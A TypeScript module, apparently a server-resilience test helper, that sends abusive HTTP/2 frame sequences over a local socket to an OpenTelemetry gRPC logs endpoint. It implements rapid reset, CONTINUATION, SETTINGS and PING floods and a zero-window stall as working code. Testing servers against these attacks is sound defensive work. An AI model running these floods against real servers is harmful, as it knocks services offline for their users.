import { once } from 'node:events'
import { connect } from 'node:net'
import type { Socket } from 'node:net'

/** HTTP/2 frames as no client should send them. */
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const [HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [1, 3, 4, 6, 9]
const END_HEADERS = 4
/** Frames between two looks at whether the other side still listens. */
const BURST = 200

/** How many frames it took until the connection was closed; all of them, where it was not. */
export interface Abused {
  readonly sent: number
  readonly closed: boolean
}

export const rapidReset = (port: number, frames: number): Promise<Abused> =>
  abuse(port, frames, (index) => {
    const stream = 2 * index + 1
    return Buffer.concat([
      frame(HEADERS, END_HEADERS, stream, request),
      frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])),
    ])
  })

export const continuationFlood = (port: number, frames: number): Promise<Abused> => {
  const filler = Buffer.concat(Array.from({ length: 200 }, () => literal('x-filler', 'a'.repeat(60))))
  return abuse(port, frames, (index) =>
    index === 0 ? frame(HEADERS, 0, 1, request) : frame(CONTINUATION, 0, 1, filler),
  )
}

export const settingsFlood = (port: number, frames: number): Promise<Abused> =>
  abuse(port, frames, () => frame(SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])))

export const pingFlood = (port: number, frames: number): Promise<Abused> =>
  abuse(port, frames, () => frame(PING, 0, 0, Buffer.alloc(8)))

/** Calls whose answers nobody has room for. */
export const windowZero = (port: number, frames: number): Promise<Abused> =>
  abuse(port, frames, (index) =>
    index === 0
      ? frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))
      : frame(HEADERS, END_HEADERS | 1, 2 * index - 1, request),
  )

async function abuse(port: number, frames: number, next: (index: number) => Buffer): Promise<Abused> {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => undefined)
  await once(socket, 'connect')
  // What is answered is not read: it piles up on the other side.
  socket.pause()
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]))
  let sent = 0
  while (sent < frames && !socket.destroyed) {
    const burst: Buffer[] = []
    for (let each = 0; each < BURST && sent < frames; each++) burst.push(next(sent++))
    if (!socket.write(Buffer.concat(burst)) && !socket.destroyed && !(await drains(socket))) break
  }
  const closed = await closes(socket)
  socket.destroy()
  return { sent, closed }
}

/** A receiver that no longer reads has done what it could: it need not close. */
const STALLED_MS = 3_000

async function drains(socket: Socket): Promise<boolean> {
  const stalled = AbortSignal.timeout(STALLED_MS)
  const goesOn = await Promise.race([
    once(socket, 'drain', { signal: stalled }).then(
      () => true,
      () => false,
    ),
    once(socket, 'close').then(() => false),
  ])
  return goesOn
}

/** Whether the other side closes, now that what it said is read. */
async function closes(socket: Socket): Promise<boolean> {
  if (socket.destroyed) return true
  socket.resume()
  const ended = Promise.race([once(socket, 'close'), once(socket, 'end')]).then(() => true)
  return Promise.race([ended, new Promise<boolean>((resolve) => setTimeout(() => resolve(false), STALLED_MS))])
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** HPACK, a literal that is not indexed, with a new name. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ])
}

/** `:method POST` and `:scheme http` by their indices, the rest in full. */
const request = Buffer.concat([
  Buffer.from([0x83, 0x86]),
  literal(':path', '/opentelemetry.proto.collector.logs.v1.LogsService/Export'),
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
])
